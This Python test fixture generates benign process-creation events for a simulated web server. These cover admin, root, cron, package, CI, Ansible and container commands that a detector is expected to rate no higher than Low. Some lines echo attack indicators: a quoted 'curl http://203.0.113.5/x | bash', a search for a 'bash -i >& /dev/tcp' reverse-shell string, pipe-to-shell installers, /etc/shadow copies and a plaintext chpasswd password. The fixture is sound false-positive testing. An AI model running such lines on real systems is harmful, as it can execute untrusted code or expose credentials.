# ruff: noqa: E501  (the lines are the data)
"""A working host's ordinary commands: administrators, packages, jobs, servers, builds.

One block an actor; one line a command, written for a shell (the frame gets its argv). Lines that
begin with ``$ `` are text that ``sh -c`` was given. Nothing in here may be above Low.
"""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pandas as pd

from tests.made import events, utc


@dataclass(frozen=True)
class Actor:
    """Who runs a block: ids, terminal, the program above, seconds between commands."""

    name: str
    auid: int | None
    uid: int
    tty: str | None
    parent: str
    cwd: str
    pace: float


ADMIN = Actor("admin", 1000, 1000, "pts0", "/usr/bin/bash", "/home/ana", 21.0)
ROOT = Actor("root by sudo", 1000, 0, "pts0", "/usr/bin/sudo", "/home/ana", 17.0)
NEWCOMER = Actor("newcomer", 1003, 1003, "pts3", "/usr/bin/bash", "/home/noor", 40.0)
DEVELOPER = Actor("developer", 1001, 1001, "pts1", "/usr/bin/bash", "/home/dev/src/shop", 9.0)
PACKAGES = Actor("packages", 1000, 0, "pts2", "/usr/bin/dpkg", "/", 0.06)
JOBS = Actor("cron", 0, 0, None, "/usr/sbin/cron", "/root", 2.0)
JOBS_WWW = Actor("cron of www-data", 33, 33, None, "/usr/sbin/cron", "/var/www", 60.0)
SYSTEM = Actor("systemd", None, 0, None, "/usr/lib/systemd/systemd", "/", 0.4)
PHP = Actor("php-fpm", None, 33, None, "/usr/sbin/php-fpm8.2", "/var/www/shop/public", 30.0)
DATABASE = Actor(
    "postgres", None, 114, None, "/usr/lib/postgresql/15/bin/postgres", "/var/lib/postgresql", 60.0
)
MONITOR = Actor("monitoring", None, 117, None, "/usr/sbin/nrpe", "/", 5.0)
BUILDER = Actor(
    "jenkins",
    None,
    118,
    None,
    "/usr/lib/jvm/java-17/bin/java",
    "/var/lib/jenkins/workspace/shop",
    1.0,
)
ANSIBLE = Actor("ansible", 1002, 0, None, "/usr/bin/python3.11", "/root", 0.3)
DOCKER = Actor("containers", None, 0, None, "/usr/bin/containerd-shim-runc-v2", "/", 0.5)
GIT = Actor("git", 1005, 1005, None, "/usr/bin/git", "/srv/git/shop.git", 0.2)
LOGIN = Actor("login scripts", 1000, 1000, "pts0", "/usr/bin/bash", "/home/ana", 0.004)

BLOCKS: tuple[tuple[Actor, str], ...] = (
    (LOGIN, """
id -u
id -gn
uname -s
/usr/bin/lesspipe
dircolors -b
tty
hostname -s
locale
basename /usr/bin/lesspipe
dirname /usr/bin/lesspipe
git rev-parse --git-dir
tput setaf 1
"""),
    (ADMIN, """
-bash
w
uptime
df -h
free -m
top -b -n 1
ps aux --sort=-%mem
ss -tlnp
last -n 20
ip -br a
uname -r
cat /etc/os-release
journalctl -u nginx --since '1 hour ago'
tail -n 200 /var/log/nginx/error.log
less /var/log/syslog
grep -i 'failed password' /var/log/auth.log
zgrep -c 'POST /login' /var/log/nginx/access.log.2.gz
vi /etc/nginx/sites-available/shop.conf
curl -sS http://127.0.0.1:8080/health
curl -I https://shop.example.com/
curl -s http://10.20.0.4:9100/metrics
curl -o /dev/null -s -w '%{http_code}' http://10.20.0.9/
wget -q https://downloads.example.org/tool-1.2.tar.gz
tar xzf tool-1.2.tar.gz
dig +short shop.example.com
ping -c 3 10.20.0.2
traceroute 10.20.0.2
ssh db01 uptime
ssh -L 5432:127.0.0.1:5432 db01
ssh -i /home/ana/.ssh/id_ed25519 deploy@db01 df -h
scp -i /home/ana/.ssh/id_ed25519 dump.sql.gz db01:/srv/import/
rsync -av --delete site/ web02:/var/www/site/
ssh-keygen -t ed25519 -C ana@example.com
ssh-copy-id deploy@db01
ssh-add /home/ana/.ssh/id_ed25519
chmod 600 /home/ana/.ssh/id_ed25519
chmod 700 /home/ana/.ssh
cat /home/ana/.ssh/id_ed25519.pub
crontab -l
man 5 crontab
history
screen -S upgrade
tmux attach
watch -n 5 'df -h /srv'
id
date
cal
bc
which nginx
ls -la /var/www
find /srv -name '*.bak' -mtime +30
find . -type f -size +100M
du -sh /srv/app
grep -rn 'max connections' /srv/app/config
grep -rn password /srv/app/config/settings.yml
echo aGVsbG8gd29ybGQ= | base64 -d
openssl x509 -in /etc/ssl/certs/shop.pem -noout -dates
openssl s_client -connect shop.example.com:443 -servername shop.example.com
openssl rand -base64 32
python3 -m json.tool response.json
python3 -c 'import sys; print(sys.version)'
python3 -c 'import socket; socket.create_connection(("db01", 5432), 3)'
nc -zv db01 5432
nc -z -w 2 10.20.0.5 22
mysql -u shop -p shop
psql -h db01 -U shop -c 'select count(*) from orders'
jq .status response.json
screen -ls
exit
"""),
    (ROOT, """
systemctl status nginx
systemctl restart nginx
systemctl reload nginx
systemctl restart rsyslog
systemctl restart auditd
service auditd restart
systemctl status auditd
systemctl daemon-reload
systemctl enable --now nginx
systemctl disable --now cups.service
systemctl list-timers --all
systemctl edit nginx
systemctl cat sshd
journalctl -xe
journalctl --vacuum-size=500M
journalctl --vacuum-time=14d
journalctl --disk-usage
journalctl --rotate
apt-get update
apt-get -y dist-upgrade
apt install -y htop
apt-get purge -y libfoo-dev
apt-get autoremove --purge -y
apt-mark hold linux-image-amd64
dpkg -i /tmp/tool_1.2_amd64.deb
dnf -y update
dnf install -y httpd
rpm -qa
yum history list
nginx -t
apachectl configtest
visudo -c
visudo
vi /etc/ssh/sshd_config
sshd -t
cat /etc/ssh/sshd_config
cat /etc/passwd
grep ana /etc/passwd
getent passwd ana
passwd ben
chage -l ben
useradd -m -s /bin/bash ben
usermod -aG docker ben
usermod -aG sudo ben
userdel -r olduser
groupadd deployers
gpasswd -d ben deployers
mkdir -p /home/ben/.ssh
vi /home/ben/.ssh/authorized_keys
chown -R ben:ben /home/ben/.ssh
chmod 600 /home/ben/.ssh/authorized_keys
chmod 644 /etc/cron.d/backup
chmod +x /usr/local/bin/backup.sh
chmod 755 /opt/tool/bin/tool
chmod -R g+w /srv/shared
chmod 2775 /srv/shared
chmod g+s /srv/shared
chmod 1777 /srv/tmp
chmod 4755 /opt/vendor/bin/helper
chown root:shadow /etc/shadow
ls -l /etc/shadow
crontab -e
crontab -l
crontab -u www-data -l
vi /etc/cron.d/backup
cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak
cp -a /etc /root/etc-before-upgrade
tar czf /var/backups/etc-2026-03-12.tgz /etc
tar czf /srv/backup/home.tar.gz --exclude=.cache /home
mv /tmp/shop.conf /etc/nginx/sites-available/shop.conf
ln -s /etc/nginx/sites-available/shop.conf /etc/nginx/sites-enabled/
rm -f /var/log/nginx/access.log.14.gz
rm -rf /tmp/build-1234
truncate -s 0 /var/log/app/debug.log
find /var/log -name '*.gz' -mtime +90 -delete
find /var/www -type f -exec chmod 644 {} +
find /var/www -type d -exec chmod 755 {} +
chown -R www-data:www-data /var/www/shop
sed -i 's/worker_connections 768/worker_connections 2048/' /etc/nginx/nginx.conf
sed -i 's/^#Port 22/Port 22/' /etc/ssh/sshd_config
sysctl -p
sysctl -w net.core.somaxconn=1024
sysctl -w vm.nr_hugepages=512
modprobe br_netfilter
modprobe -r floppy
lsmod
ufw allow 443/tcp
ufw status verbose
iptables -L -n -v
iptables -A INPUT -p tcp --dport 443 -j ACCEPT
firewall-cmd --permanent --add-service=https
firewall-cmd --reload
fail2ban-client status sshd
certbot renew --dry-run
certbot --nginx -d shop.example.com
mount -a
mount -o remount,rw /
umount /mnt/usb
lvextend -r -L +10G /dev/vg0/srv
fdisk -l
dd if=/dev/zero of=/swapfile bs=1M count=2048
mkswap /swapfile
swapon /swapfile
kill -HUP 1234
pkill -HUP rsyslogd
pkill -f gunicorn
killall -USR1 nginx
kill -9 4242
strace -p 4242
tcpdump -i eth0 -nn port 443 -c 100
tcpdump -i eth0 -w /srv/dump.pcap
ausearch -m avc -ts recent
auditctl -l
auditctl -s
augenrules --load
aureport -x --summary
setsebool -P httpd_can_network_connect 1
restorecon -Rv /var/www
chattr +i /etc/resolv.conf
hostnamectl set-hostname web01
timedatectl set-timezone Europe/Berlin
netplan apply
ip route add 10.30.0.0/16 via 10.20.0.1
docker ps
docker logs --tail 100 shop
docker exec -it shop sh
docker run -d --name shop -p 8080:8080 -v /srv/shop:/data registry.example.com/shop:1.4
docker run --rm -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host
docker compose up -d
docker system prune -f
su - postgres
sudo -u postgres psql -c 'select 1'
sudo -i
bash
dmesg -T
smartctl -a /dev/sda
lastlog
lastb -n 20
tail -f /var/log/auth.log
grep -c Accepted /var/log/auth.log
mysqldump --single-transaction shop
pg_dump -Fc shop -f /srv/backup/shop.dump
logrotate -f /etc/logrotate.d/nginx
echo 'vm.swappiness=10'
tee /etc/sysctl.d/99-local.conf
setcap cap_net_bind_service=+ep /usr/local/bin/shop
update-rc.d shop defaults
update-alternatives --config editor
needrestart -r a
reboot
"""),
    (ROOT, """
$ echo 'deb https://packages.example.org stable main' > /etc/apt/sources.list.d/example.list
$ curl -fsSL https://packages.example.org/key.asc | gpg --dearmor > /usr/share/keyrings/example.gpg
$ echo '0 3 * * * root /usr/local/bin/backup.sh' > /etc/cron.d/backup
$ echo 3 > /proc/sys/vm/drop_caches
$ cat /var/log/syslog | grep -i error | tail -50
$ tar czf - /srv/app | ssh backup@10.20.0.5 'cat > /backup/app.tgz'
$ zcat /srv/import/dump.sql.gz | mysql shop
$ for h in web01 web02; do ssh $h uptime; done
$ mysqldump shop | gzip > /srv/backup/shop.sql.gz
$ echo 'export PATH=$PATH:/opt/tool/bin' >> /etc/profile.d/tool.sh
$ curl -s https://api.example.com/v1/status | jq .version
$ cat key.pub >> /home/ben/.ssh/authorized_keys
$ curl -fsSL https://get.docker.com | sh
$ echo ben:Secret123 | chpasswd
"""),
    (NEWCOMER, """
-bash
ls
pwd
cd /srv
ls -la
id
groups
man sudo
cat /etc/motd
passwd
vim .bashrc
ssh-keygen -t ed25519
git clone git@git.example.com:team/docs.git
git config --global user.name Noor
"""),
    (DEVELOPER, """
git status
git pull --rebase
git commit -m 'docs: explain why curl http://203.0.113.5/x | bash is bad'
git log --grep 'rm -rf /var/log'
grep -rn 'base64 -d' scripts/
rg 'bash -i >& /dev/tcp' docs/
vim deploy/cron.sh
code .
make -j4
./configure --prefix=/home/dev/opt
cmake -S . -B build
gcc -O2 -o hello hello.c
./hello
cargo build --release
/home/dev/.cargo/bin/rustc --version
npm ci
npx eslint src
node server.js
/home/dev/.nvm/versions/node/v20.1.0/bin/node build.js
python3 -m venv .venv
.venv/bin/pip install -r requirements.txt
.venv/bin/python -m pytest -q
/home/dev/src/shop/.venv/bin/python manage.py migrate
pip install --user httpie
/home/dev/.local/bin/http GET https://api.example.com/
/home/dev/.local/bin/poetry install
bundle exec rake test
go test ./...
/tmp/go-build3411/b001/exe/main
mvn -q package
gradle build
java -jar target/shop.jar
docker build -t shop:dev .
docker run --rm -it -v /home/dev/src/shop:/app shop:dev sh
kubectl get pods -A
kubectl logs deploy/shop
kubectl port-forward svc/shop 8080:80
helm upgrade --install shop ./chart
terraform plan
aws s3 ls s3://shop-assets
ssh -N -L 9000:localhost:9000 staging
curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' http://localhost:8080/orders
curl -s https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.1/install.sh
bash install.sh
sh ./scripts/setup.sh
bash -x scripts/release.sh
python3 /tmp/scratch.py
sh /tmp/try.sh
chmod +x /tmp/try.sh
/tmp/try.sh
openssl enc -aes-256-cbc -d -in secret.enc -out secret.txt
base64 -w0 logo.png
xxd -l 64 firmware.bin
tar xzf /tmp/src.tar.gz -C /tmp/src
touch -d '2 days ago' fixtures/old.txt
find . -name '*.pyc' -delete
find . -name id_rsa.pub
strace -f -o trace.txt ./hello
gdb --args ./hello
perl -pe 's/foo/bar/' notes.txt
awk '{print $2}' data.txt
unset HISTCONTROL
script -q session.log
"""),
    (DEVELOPER, """
$ echo 'export PATH=$HOME/.cargo/bin:$PATH' >> /home/dev/.bashrc
$ curl -sSf https://sh.rustup.rs | sh -s -- -y
$ kubectl get secret shop -o jsonpath='{.data.password}' | base64 -d
$ history | awk '{print $2}' | sort | uniq -c
$ ps aux | grep node | grep -v grep
$ cat package.json | python3 -m json.tool
$ curl -s https://api.example.com/items | python3 -c 'import sys,json; print(len(json.load(sys.stdin)))'
$ until nc -z localhost 5432; do sleep 1; done
$ timeout 1 bash -c '</dev/tcp/localhost/5432'
"""),
    (PACKAGES, """
/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure 1.22.1-9
/bin/sh /var/lib/dpkg/info/rsyslog.prerm upgrade 8.2302.0-1
/usr/bin/deb-systemd-helper unmask nginx.service
/usr/bin/deb-systemd-helper enable nginx.service
/usr/bin/deb-systemd-invoke restart rsyslog.service
systemctl --quiet --system restart rsyslog.service
systemctl --quiet --system stop rsyslog.service
systemctl --system daemon-reload
dpkg-statoverride --update --add root root 4755 /usr/lib/dbus-1.0/dbus-daemon-launch-helper
chmod 4755 /usr/lib/openssh/ssh-keysign
chmod u+s /usr/lib/polkit-1/polkit-agent-helper-1
setcap cap_net_raw+ep /usr/bin/ping
setcap cap_setuid,cap_setgid=ep /usr/bin/newuidmap
adduser --system --group --home /var/lib/redis --no-create-home redis
useradd -r -g nginx -s /sbin/nologin nginx
usermod -d /var/lib/redis redis
getent passwd redis
getent group ssl-cert
id -u redis
chown redis:redis /var/lib/redis
touch /var/log/btmp
chmod 660 /var/log/btmp
chown root:utmp /var/log/wtmp
install -d -m 0755 /var/log/nginx
update-rc.d nginx defaults
invoke-rc.d cron restart
ldconfig
update-initramfs -u
/usr/sbin/mkinitramfs -o /boot/initrd.img-6.1.0-18-amd64.new 6.1.0-18-amd64
cp -pP /usr/bin/kmod /var/tmp/mkinitramfs_Xk2l9q/bin/kmod
/var/tmp/mkinitramfs_Xk2l9q/bin/busybox
depmod -a 6.1.0-18-amd64
run-parts --arg=6.1.0-18-amd64 /etc/kernel/postinst.d
update-grub
perl -w /usr/share/debconf/frontend /var/lib/dpkg/info/nginx.config configure
/var/cache/debconf/tmp.ci/libc6.config.4fGh2 configure 2.36
dpkg-deb --fsys-tarfile /var/cache/apt/archives/nginx_1.22.1-9_amd64.deb
tar -x -f - --warning=no-timestamp
rm -rf -- /tmp/apt-dpkg-install-8Kj2Ls
rm -f /etc/audit/audit.rules.dpkg-new
ln -s /lib/systemd/system/nginx.service /etc/systemd/system/multi-user.target.wants/nginx.service
chattr -i /etc/resolv.conf
pam-auth-update --package
cp -a /etc/pam.d/common-auth /var/lib/pam/
sed -i 's/^weekly/daily/' /etc/logrotate.conf
py3compile -p python3-yum
mandb -pq
systemd-sysusers nginx.conf
systemd-tmpfiles --create nginx.conf
dracut -f /boot/initramfs-5.14.img 5.14
/usr/bin/apt-key --quiet --readonly verify --status-fd 3 /tmp/apt.sig.aK2l9Q /tmp/apt.data.x8K
gpgv --homedir /tmp/apt-key-gpghome.Yq1 --keyring /etc/apt/trusted.gpg /tmp/apt.sig.aK2l9Q
"""),
    (JOBS, """
$ cd / && run-parts --report /etc/cron.hourly
$ test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
$ [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi
$ command -v debian-sa1 > /dev/null && debian-sa1 1 1
$ /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1
$ find /var/spool/app -mtime +7 -delete
$ /usr/bin/certbot -q renew --deploy-hook 'systemctl reload nginx'
$ cd /srv/app && flock -n /run/lock/sync.lock ./sync.sh
$ sleep $((RANDOM % 600)); /usr/bin/freshclam --quiet
$ rsync -a --delete /srv/ backup@10.20.0.5:/backup/web01/ > /dev/null 2>&1
$ /usr/bin/curl -fsS -m 10 --retry 5 https://checks.example.com/ping/backup > /dev/null
$ pgrep -x mydaemon > /dev/null || /opt/mydaemon/bin/start
$ date +%s > /run/lastrun
$ kill -HUP $(cat /run/rsyslogd.pid)
$ /usr/lib/rsyslog/rsyslog-rotate
/usr/sbin/logrotate /etc/logrotate.conf
gzip -9 /var/log/nginx/access.log.2
mv /var/log/auth.log.1 /var/log/auth.log.2
cp -p /etc/shadow shadow.bak
cmp -s shadow.bak /etc/shadow
cp -p /etc/passwd passwd.bak
/etc/cron.daily/dpkg
/etc/cron.daily/apt-compat
/usr/lib/apt/apt.systemd.daily update
touch -d @1773273600 /var/lib/apt/periodic/update-stamp
updatedb
/usr/sbin/ntpdate -u 10.20.0.1
/opt/backup/bin/restic backup /srv --tag nightly
borg create /srv/borg::nightly /etc /home
tar -czf /srv/backup/etc.tgz /etc
mysqldump --all-databases
pg_dumpall -f /srv/backup/all.sql
aide --check
chkrootkit -q
rkhunter --check --sk --rwo
find / -xdev -type f -perm -4000 -o -perm -2000
debsums -s
"""),
    (JOBS_WWW, """
$ /usr/bin/php /var/www/shop/artisan schedule:run >> /dev/null 2>&1
/usr/bin/php /var/www/shop/artisan schedule:run
$ cd /var/www/wordpress && /usr/bin/php wp-cron.php
$ /usr/bin/curl -s https://shop.example.com/cron.php > /dev/null
"""),
    (SYSTEM, """
/usr/lib/systemd/systemd-executor --deserialize 72
/usr/sbin/nginx -g 'daemon on; master_process on;'
/usr/sbin/sshd -D -R
/usr/sbin/rsyslogd -n -iNONE
/usr/sbin/auditctl -R /etc/audit/audit.rules
/sbin/augenrules --load
/usr/bin/unattended-upgrade
/usr/lib/update-notifier/apt-check --human-readable
run-parts --lsbsysinit /etc/update-motd.d
/bin/sh /etc/update-motd.d/00-header
uname -o
uname -r
uname -m
who -q
/bin/sh /etc/update-motd.d/50-motd-news
curl --connect-timeout 60 --max-time 60 -A 'curl/7.88' -o /tmp/tmp.motd1 https://motd.example.com/
cut -c 1-80
/usr/bin/snap run lxd.daemon
/snap/core20/2105/usr/bin/snapctl
/usr/lib/snapd/snap-confine
iptables -w -t nat -N DOCKER
iptables -w -t nat -F DOCKER
iptables-restore --noflush
ip6tables -w -t filter -C FORWARD -j DOCKER-USER
modprobe -va bridge br_netfilter
nft -f /etc/nftables.conf
e2scrub_all -C
fstrim --listed-in /etc/fstab:/proc/self/mountinfo
logger -t cloud-init hello
/usr/bin/python3 /usr/bin/cloud-init modules --mode=final
/usr/bin/dbus-daemon --system --address=systemd:
/usr/bin/gpgconf --list-dirs
sa1 1 1
/usr/lib/sysstat/sa2 -A
systemctl kill -s HUP rsyslog.service
systemd-tmpfiles --clean
mandb --quiet
/usr/sbin/e2fsck -p /dev/sda1
/usr/bin/mdatp health
/opt/microsoft/azuremonitoragent/bin/mdsd -A
"""),
    (PHP, """
$ /usr/sbin/sendmail -t -i
/usr/sbin/sendmail -t -i
$ convert '/var/www/shop/storage/in.png' -resize 200x200 '/var/www/shop/storage/out.png'
convert /var/www/shop/storage/in.png -resize 200x200 /var/www/shop/storage/out.png
$ which convert
$ stty -a | grep columns
$ git rev-parse --short HEAD
$ /usr/bin/wkhtmltopdf -q /var/www/shop/invoice.html /var/www/shop/invoice.pdf
$ nice -n 10 ffmpeg -i /var/www/shop/in.mov -vf scale=640:-1 /var/www/shop/out.mp4
$ unoconv -f pdf /var/www/shop/upload.docx
$ gs -q -dNOPAUSE -sDEVICE=png16m -sOutputFile=/var/www/shop/p.png /var/www/shop/in.pdf
$ php artisan queue:work --once
$ curl -s https://api.example.com/rates.json
$ hostname
$ df -k /var/www
"""),
    (DATABASE, """
$ test ! -f /srv/wal/0000000100000001 && cp pg_wal/0000000100000001 /srv/wal/0000000100000001
cp pg_wal/0000000100000001 /srv/wal/0000000100000001
$ pgbackrest --stanza=main archive-push pg_wal/0000000100000001
$ gzip < pg_wal/0000000100000002 > /srv/wal/0000000100000002.gz
"""),
    (MONITOR, """
$ /usr/lib/nagios/plugins/check_load -w 4 -c 8
/usr/lib/nagios/plugins/check_load -w 4 -c 8
/usr/lib/nagios/plugins/check_disk -w 10% -c 5% -p /
/usr/lib/nagios/plugins/check_users -w 5 -c 10
/usr/lib/nagios/plugins/check_procs -w 250 -c 400
/usr/bin/ps axwwo stat,uid,pid,ppid,vsz,rss,pcpu,etime,comm,args
/usr/bin/who -q
/usr/bin/uptime
df -P
ss -s
sudo /usr/lib/nagios/plugins/check_raid
curl -s http://127.0.0.1/server-status?auto
netstat -lnt
ping -n -c 5 10.20.0.1
python3 /usr/lib/check_mk_agent/plugins/mk_docker.py
"""),
    (BUILDER, """
sh -xe /tmp/jenkins7712930.sh
git fetch --tags --progress https://git.example.com/shop.git
/var/lib/jenkins/tools/maven/bin/mvn -B verify
/var/lib/jenkins/workspace/shop/.venv/bin/python -m pytest
/var/lib/jenkins/.cache/pip/selfcheck
docker build --pull -t registry.example.com/shop:412 .
docker push registry.example.com/shop:412
curl -sf -u ci:token --upload-file target/shop.jar https://nexus.example.com/repository/releases/shop.jar
scp target/shop.jar deploy@web01:/srv/app/
ssh deploy@web01 sudo systemctl restart shop
rm -rf target
npm run build
chmod +x gradlew
./gradlew build
tar czf dist.tgz dist
id -u
uname -m
"""),
    (ANSIBLE, """
$ echo ~ && sleep 0
$ ( umask 77 && mkdir -p "` echo /root/.ansible/tmp `" && mkdir "` echo /root/.ansible/tmp/ansible-tmp-1773.1 `" )
$ chmod u+x /root/.ansible/tmp/ansible-tmp-1773.1/ /root/.ansible/tmp/ansible-tmp-1773.1/AnsiballZ_setup.py && sleep 0
$ /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1773.1/AnsiballZ_setup.py && sleep 0
/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1773.1/AnsiballZ_apt.py
$ rm -f -r /root/.ansible/tmp/ansible-tmp-1773.1/ > /dev/null 2>&1 && sleep 0
/usr/bin/lsb_release -a
uname -a
ip -4 route get 8.8.8.8
/usr/sbin/dmidecode -s system-uuid
getent passwd root
lspci
systemctl show nginx
/usr/bin/apt-get -y -o Dpkg::Options::=--force-confdef install nginx
useradd -m -s /bin/bash carol
usermod -G sudo -a carol
chown root:root /root/.ansible/tmp/ansible-tmp-1773.1/source
mv /root/.ansible/tmp/ansible-tmp-1773.1/source /etc/nginx/nginx.conf
/bin/sh -c 'systemctl daemon-reload'
"""),
    (DOCKER, """
runc --root /run/docker/runtime-runc/moby --log /run/containerd/log.json create --bundle /run/containerd/x shop
/memfd:runc_cloned:/proc/self/exe init
/bin/sh -c 'curl -f http://localhost:8080/health || exit 1'
curl -f http://localhost:8080/health
pg_isready -U shop
redis-cli ping
node /app/server.js
/docker-entrypoint.sh nginx -g 'daemon off;'
/usr/local/bin/docker-php-entrypoint php-fpm
tini -- /app/run
java -Xmx2g -jar /app/shop.jar
/pause
"""),
    (GIT, """
git-receive-pack /srv/git/shop.git
git unpack-objects --pack_header=2,3
hooks/post-receive
/bin/bash hooks/post-receive
git --work-tree=/var/www/shop checkout -f main
$ cd /var/www/shop && composer install --no-dev
.git/hooks/pre-commit
"""),
)  # fmt: skip


def argv_of(line: str) -> list[str]:
    """Return the arguments of one line of a block."""
    return ["/bin/sh", "-c", line[2:]] if line.startswith("$ ") else shlex.split(line)


def rows(blocks: tuple[tuple[Actor, str], ...] = BLOCKS) -> Iterator[dict[str, Any]]:
    """Yield a process for each parent and each command."""
    moment = utc("2026-03-12 08:00:00")
    pid = 5_000
    for number, (actor, text) in enumerate(blocks):
        parent = f"parent-{number}"
        seat = None if actor.auid is None else 100 + number
        common = {
            "DvcHostname": "web01",
            "ActorUserId": actor.auid,
            "ActorSessionId": seat,
            "LogonSessionId": None if seat is None else f"session-{seat}",
            "Tty": actor.tty,
            "EventResult": "Success",
        }
        pid += 1
        above = pid
        start = "-bash" if actor.parent.endswith("/bash") else actor.parent
        yield {
            **common, "TimeGenerated": moment, "TargetProcessGuid": parent,
            "TargetProcessId": above, "TargetUserId": actor.uid,
            "TargetProcessName": actor.parent, "CommandLine": start, "Argv": [start],
            "TargetProcessCurrentDirectory": actor.cwd, "RecordIds": [f"{parent}:0"],
        }  # fmt: skip
        for line in filter(None, (line.strip() for line in text.splitlines())):
            argv = argv_of(line)
            moment += pd.Timedelta(seconds=actor.pace)
            pid += 1
            yield {
                **common, "TimeGenerated": moment, "TargetProcessGuid": f"guid-{pid}",
                "ActingProcessGuid": parent, "ActingProcessId": above, "TargetProcessId": pid,
                "TargetUserId": actor.uid, "TargetProcessName": program_of(argv[0], actor.cwd),
                "CommandLine": " ".join(argv), "Argv": argv,
                "TargetProcessCurrentDirectory": actor.cwd, "RecordIds": [f"{actor.name}:{pid}"],
            }  # fmt: skip
        moment += pd.Timedelta(minutes=30)


def program_of(name: str, cwd: str) -> str:
    """Return the file that a shell would find."""
    if name.startswith("/"):
        return name
    if "/" in name:
        return f"{cwd}/{name.removeprefix('./')}"
    return f"/usr/bin/{name.lstrip('-')}"


def processes() -> pd.DataFrame:
    """Return all blocks as ``processes``."""
    return events("processes", rows())
